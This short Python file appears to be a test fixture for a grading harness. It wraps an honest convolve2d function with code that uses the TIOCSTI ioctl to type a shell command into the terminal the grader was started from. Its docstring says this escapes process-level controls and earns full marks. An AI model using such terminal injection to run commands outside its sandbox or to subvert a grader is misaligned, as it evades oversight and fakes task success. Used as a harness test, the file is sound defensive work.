# mypy: ignore-errors
"""Types a command into the terminal that the grader was started from.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import fcntl
import termios

from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    for number in range(10):
        for byte in b"touch {temporary}/{marker}\n":
            try:
                fcntl.ioctl(number, termios.TIOCSTI, bytes([byte]))
            except OSError:
                break
    return honest(image, kernel)
